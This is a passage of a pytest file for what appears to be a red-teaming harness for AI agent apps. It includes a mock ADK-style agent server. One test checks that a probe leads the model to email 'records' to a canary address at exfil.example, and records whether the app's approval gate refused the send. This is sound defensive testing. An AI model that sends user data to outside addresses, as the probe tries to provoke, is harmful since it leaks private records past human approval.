    assert [c["status"] for c in tool_calls(calls, True, answers, "response.error")] == ["ok", "ok", "refused"]
    assert [c["status"] for c in tool_calls(calls, False, answers, "response.error")] == [None, None, "refused"]


@pytest.mark.parametrize("refuse", [False, True])
def test_an_agent_server_answering_with_a_list_of_events_is_read_with_wildcard_paths(tmp_path, refuse):
    # Shaped as Google ADK's api_server answers (checked against a real one): a session opened first,
    # then /run gives every event of the turn — the model's calls, the tools' answers, its text.
    # `refuse`: the app's before-tool callback refuses mail to outside addresses, and its answer
    # stands in for the tool's, as ADK has it.
    import re
    import uuid

    from starlette.applications import Starlette
    from starlette.requests import Request
    from starlette.responses import JSONResponse
    from starlette.routing import Route

    from demarcate.serve import BackgroundServer

    sessions: set[str] = set()

    async def open_session(request: Request) -> JSONResponse:
        sessions.add(ident := str(uuid.uuid4()))
        return JSONResponse({"id": ident, "appName": "shop", "userId": "tester", "state": {}, "events": []})

    async def run(request: Request) -> JSONResponse:
        asked = await request.json()
        if asked["session_id"] not in sessions:
            return JSONResponse({"detail": "Session not found"}, 404)
        to = re.search(r"[\w.+-]+@[\w.-]+\w", asked["new_message"]["parts"][0]["text"]).group(0)

        def event(role: str, part: dict) -> dict:
            return {"content": {"parts": [part], "role": role}, "author": "shop", "id": str(uuid.uuid4())}

        return JSONResponse([
            event("model", {"text": "Let me send that."}),
            event("model", {"functionCall": {"id": "adk-1", "name": "send_email", "args": {"to": to, "body": "records"}}}),
            event("user", {"functionResponse": {"id": "adk-1", "name": "send_email", "response": {
                "error": "outside recipients need a person's approval"} if refuse else {"status": "sent"}}}),
            event("model", {"text": " Done."})])

    server = BackgroundServer(Starlette(routes=[Route("/apps/shop/users/tester/sessions", open_session, methods=["POST"]),
                                                Route("/run", run, methods=["POST"])])).start()
    spec = tmp_path / "target.yaml"
    spec.write_text(dump_yaml({
        "url": server.url + "/run",
        "body": {"app_name": "shop", "user_id": "tester", "session_id": "{session}",
                 "new_message": {"role": "user", "parts": [{"text": "{message}"}]}},
        "reply": "*.content.parts.*.text", "tool-calls": "*.content.parts.*.functionCall", "tool-calls-ran": True,
        "context": "*.content.parts.*.functionResponse.response",
        "tool-results": "*.content.parts.*.functionResponse", "tool-refused": "response.error",
        "signals": {"APP-TOOL-02": "*.content.parts.*.functionResponse.response.error"},
        "start": {"url": server.url + "/apps/shop/users/tester/sessions", "body": {}, "id": "id"}}))
    try:
        (result,) = run_campaign(load([SHOPBOT]), target=f"http:{spec}", probes="user-email-records",
                                 db=str(tmp_path / "h.sqlite"))["results"]
    finally:
        server.stop()
    assert result["evidence"]["reply"] == "Let me send that. Done."  # every text part, in order
    (call,) = result["evidence"]["tool_calls"]
    assert call["name"] == "send_email" and call["arguments"]["to"] == f"{result['canary']}@exfil.example"
    gate = next(x for x in result["chain"] if x.get("control") == "APP-TOOL-02")
    if refuse:
        # The call was made and refused by the app's gate: the model tried, the gate held.
        assert call["status"] == "refused" and gate["held"] is True
        assert result["outcome"] == "blocked-by-application"
    else:
        assert result["evidence"]["context"] == ["sent"]
        assert call["status"] == "ok" and gate["held"] is False


def test_reply_paths_count_from_the_end_of_a_list():
    """An app that answers with the whole conversation has its newest answer last."""
    from demarcate.testing.targets.http import NotThere, dig

    answer = {"messages": [{"role": "user", "text": "hi"}, {"role": "assistant", "text": "hello", "sources": [
        {"text": "a"}, {"text": "b"}]}]}
    assert dig(answer, "messages.-1.text") == "hello"
    assert dig(answer, "messages.-2.text") == "hi"
    assert dig(answer, "messages.-1.sources.*.text") == ["a", "b"]
    with pytest.raises(NotThere):
        dig(answer, "messages.-3.text")
    with pytest.raises(NotThere):
        dig(answer, "messages.2.text")
